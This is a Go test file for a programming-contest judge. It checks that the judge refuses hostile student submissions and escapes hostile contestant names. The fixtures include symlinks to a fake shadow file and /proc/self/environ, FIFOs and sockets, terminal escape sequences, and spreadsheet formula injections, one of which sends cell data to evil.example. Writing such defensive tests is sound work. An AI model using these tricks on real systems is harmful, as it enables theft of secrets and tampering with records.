package contest

import (
	"bytes"
	"encoding/csv"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestDiscoverUntrusted makes a class folder as a cheating student or a malicious classmate
// would: links to files the judge can read and the student cannot, a hard link to the kit's
// accepted solution, a "file" of /proc that never ends, a sparse file of a gibibyte, a FIFO that
// would block whoever opens it, a socket, a device, a contestant's folder that is a link. Each
// is refused with a plain note naming the file alone, nothing is read from outside the class,
// and the honest contestant's file is read, once, whole.
func TestDiscoverUntrusted(t *testing.T) {
	class, outside := t.TempDir(), t.TempDir()
	const secret = "root:$6$the-host-secret-that-must-never-show"
	secretFile := filepath.Join(outside, "shadow")
	if err := os.WriteFile(secretFile, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	accepted := filepath.Join(outside, "target.cpp")
	if err := os.WriteFile(accepted, []byte("int main() { /* the kit's accepted solution */ }\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	mkdir := func(name string) string {
		t.Helper()
		dir := filepath.Join(class, name)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	do := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	honest := []byte("#include <stdio.h>\nint main(void) { puts(\"2906\"); }\n")
	do(os.WriteFile(filepath.Join(mkdir("alice"), "sudoku.c"), honest, 0o644))
	do(os.Symlink(secretFile, filepath.Join(mkdir("eve"), "sudoku.c")))
	do(os.Symlink("/proc/self/environ", filepath.Join(mkdir("oscar"), "sudoku.c")))
	do(os.Link(accepted, filepath.Join(mkdir("trudy"), "sudoku.cpp")))
	do(os.Symlink(accepted, filepath.Join(mkdir("victor"), "sudoku.cpp")))
	do(os.Symlink("/proc/self/pagemap", filepath.Join(mkdir("mallory"), "sudoku.c")))
	big, err := os.Create(filepath.Join(mkdir("peggy"), "sudoku.c"))
	do(err)
	do(big.Truncate(1 << 30))
	big.Close()
	do(os.WriteFile(filepath.Join(mkdir("walter"), "sudoku.py"), bytes.Repeat([]byte("#"), DefaultSourceLimit+1), 0o644))
	do(os.WriteFile(filepath.Join(mkdir("wendy"), "sudoku.py"), bytes.Repeat([]byte("#"), DefaultSourceLimit), 0o644))
	do(syscall.Mkfifo(filepath.Join(mkdir("fred"), "sudoku.c"), 0o644))
	listener, err := net.Listen("unix", filepath.Join(mkdir("sybil"), "sudoku.c"))
	do(err)
	defer listener.Close()
	do(os.Symlink(filepath.Join(class, "alice"), filepath.Join(class, "zoe")))
	do(os.Symlink(outside, filepath.Join(mkdir("nick"), "sudoku")))
	do(os.WriteFile(filepath.Join(outside, "sudoku.c"), []byte(secret), 0o644))
	want := map[string]string{
		"alice":   "",
		"eve":     "sudoku.c is a link: not judged",
		"oscar":   "sudoku.c is a link: not judged",
		"trudy":   "sudoku.cpp is a hard link (one of 2 names of one file): not judged",
		"victor":  "sudoku.cpp is a link: not judged",
		"mallory": "sudoku.c is a link: not judged",
		"peggy":   "sudoku.c is 1.0 GiB, over the source limit of 256 KiB: not judged",
		"walter":  "sudoku.py is 257 KiB, over the source limit of 256 KiB: not judged",
		"wendy":   "",
		"fred":    "sudoku.c is a FIFO (a named pipe): not judged",
		"sybil":   "sudoku.c is a socket: not judged",
		"zoe":     "the folder zoe is a link: not judged",
		"nick":    "the folder sudoku is a link: not judged",
	}
	if os.Geteuid() == 0 {
		do(syscall.Mknod(filepath.Join(mkdir("dave"), "sudoku.c"), syscall.S_IFCHR|0o644, 1<<8|3)) // /dev/null's numbers
		want["dave"] = "sudoku.c is a device: not judged"
	}
	done := make(chan struct{})
	var entries []Entry
	go func() {
		defer close(done)
		entries, err = Discover(class, "sudoku", extensions, DefaultSourceLimit)
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("Discover did not return: something blocked it")
	}
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != len(want) {
		t.Errorf("got %d contestants, want %d: %+v", len(entries), len(want), entries)
	}
	for _, e := range entries {
		note, ok := want[e.Name]
		if !ok {
			t.Errorf("unexpected contestant %q", e.Name)
			continue
		}
		if e.Refused != note {
			t.Errorf("%s: got note %q, want %q", e.Name, e.Refused, note)
		}
		if note != "" && e.Source != nil {
			t.Errorf("%s: refused, yet read %d bytes", e.Name, len(e.Source))
		}
		if strings.Contains(e.Refused+string(e.Source), "the-host-secret") || strings.Contains(e.Refused, outside) {
			t.Errorf("%s: what lies outside the class reached the entry: %q", e.Name, e.Refused)
		}
	}
	for _, e := range entries {
		switch e.Name {
		case "alice":
			if !bytes.Equal(e.Source, honest) {
				t.Errorf("alice: got source %q, want her file", e.Source)
			}
		case "wendy":
			if len(e.Source) != DefaultSourceLimit {
				t.Errorf("wendy: got %d bytes, want the whole file at the limit", len(e.Source))
			}
		}
	}
}

// TestHostileNames ranks contestants whose folder names hold a newline, terminal escapes that
// erase and rewrite the row above, and a spreadsheet formula: the ranking keeps one line per
// contestant and no escape sequence, and the CSV one row per contestant and no formula.
func TestHostileNames(t *testing.T) {
	names := []string{
		"eve\n   1  mallory      100   1 ms  AA",
		"oscar\x1b[1A\x1b[2K   1  oscar  100",
		`=HYPERLINK("http://evil.example/?"&A1,"prize")`,
		"-2+3", "@SUM(A1:A9)", "\u202eecila",
	}
	con := &Contest{Tests: []string{"01", "02"}}
	for _, n := range names {
		con.Contestants = append(con.Contestants, judged(n, 5, wa, wa))
	}
	con.Contestants = append(con.Contestants, Contestant{Name: "trudy\a", Status: NotJudged, Note: "sudoku.cpp is a link: not judged"})
	for i := range con.Contestants {
		con.Contestants[i].Summarize(2)
	}
	con.Rank()
	var text bytes.Buffer
	if err := con.WriteRanking(&text, true); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(text.String(), "\n"), "\n")
	if want := len(con.Contestants) + 3; len(lines) != want {
		t.Errorf("got %d lines, want %d (a header, a row per contestant, the legend, the ranking rule):\n%s", len(lines), want, text.String())
	}
	// Colours are the ranking's own escapes: no other may come from a name.
	plain := strings.NewReplacer(reset, "", bold, "", red, "", green, "", yellow, "", purple, "", dim, "").Replace(text.String())
	if strings.ContainsAny(plain, "\x1b\a\u202e") {
		t.Errorf("a name's control characters reached the terminal: %q", plain)
	}
	if !strings.Contains(plain, `oscar\x1b[1A\x1b[2K`) || !strings.Contains(plain, `eve\n`) || !strings.Contains(plain, `not judged`) {
		t.Errorf("the names are not shown escaped:\n%s", plain)
	}
	var csvText bytes.Buffer
	if err := con.WriteCSV(&csvText); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&csvText).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(con.Contestants)+1 {
		t.Errorf("CSV: got %d rows, want %d", len(rows), len(con.Contestants)+1)
	}
	for _, row := range rows[1:] {
		if cell := row[1]; strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("CSV: the name cell %q would run as a formula", cell)
		}
	}
}
